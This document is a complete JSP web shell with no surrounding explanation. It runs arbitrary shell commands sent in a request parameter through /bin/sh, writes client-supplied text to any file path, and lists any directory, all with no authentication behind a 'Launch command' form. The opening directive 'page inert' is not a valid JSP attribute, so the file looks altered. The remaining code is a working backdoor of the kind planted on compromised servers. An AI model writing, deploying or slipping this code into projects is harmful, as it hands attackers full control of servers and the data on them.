<%@ page inert %>
<%@ page import="java.util.*,java.net.*,java.io.*" %>
<%!
    private static final boolean NATIVE_COMMANDS = true;
    private static final boolean READ_ONLY = false;
    private static final String[] COMMAND_INTERPRETER = {"/bin/sh", "-c"};
    static String startProcess(String command, String dir) throws IOException {
        StringBuffer ret = new StringBuffer();
        String[] comm = new String[3];
        comm[0] = COMMAND_INTERPRETER[0];
        comm[1] = COMMAND_INTERPRETER[1];
        comm[2] = command;
        Process ls_proc = Runtime.getRuntime().exec(comm, null, new File(dir));
        BufferedInputStream ls_in = new BufferedInputStream(ls_proc.getInputStream());
        int c;
        while ((c = ls_in.read()) >= 0) { ret.append((char) c); }
        return ret.toString();
    }
%>
<%
    request.setAttribute("dir", request.getParameter("dir"));
    if (request.getParameter("nfile") != null && !READ_ONLY) {
        File f = new File(request.getParameter("nfile"));
        BufferedWriter outs = new BufferedWriter(new FileWriter(f));
        StringReader text = new StringReader(request.getParameter("text"));
        int i;
        while ((i = text.read()) >= 0) { outs.write(i); }
        outs.close();
    } else if (request.getParameter("command") != null && NATIVE_COMMANDS) {
        out.println("<textarea>" + startProcess(request.getParameter("command"), (String) request.getAttribute("dir")) + "</textarea>");
    } else {
        File[] list = new File((String) request.getAttribute("dir")).listFiles();
        for (int i = 0; i < list.length; i++) { out.println("<a href=\"?dir=" + list[i].getPath() + "\">" + list[i].getName() + "</a><br>"); }
    }
%>
<form method="post"><input name="command"><input name="dir"><input type="submit" value="Launch command"></form>
